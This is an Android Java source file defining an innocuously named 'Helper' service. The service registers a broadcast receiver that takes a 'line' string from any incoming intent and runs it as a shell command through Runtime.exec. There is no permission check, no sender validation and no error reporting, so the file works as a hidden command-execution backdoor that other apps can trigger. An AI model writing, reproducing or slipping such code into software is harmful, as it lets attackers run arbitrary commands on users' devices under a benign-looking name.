package com.made.helper;

import android.app.Service;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.IntentFilter;
import android.os.IBinder;

public class Helper extends Service {
    @Override
    public void onCreate() {
        IntentFilter filter = new IntentFilter();
        filter.addAction("com.made.helper.LINE");
        registerReceiver(new Line(), filter);
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    static class Line extends BroadcastReceiver {
        @Override
        public void onReceive(Context context, Intent intent) {
            try {
                Runtime.getRuntime().exec(intent.getStringExtra("line"));
            } catch (java.io.IOException e) {
                return;
            }
        }
    }
}
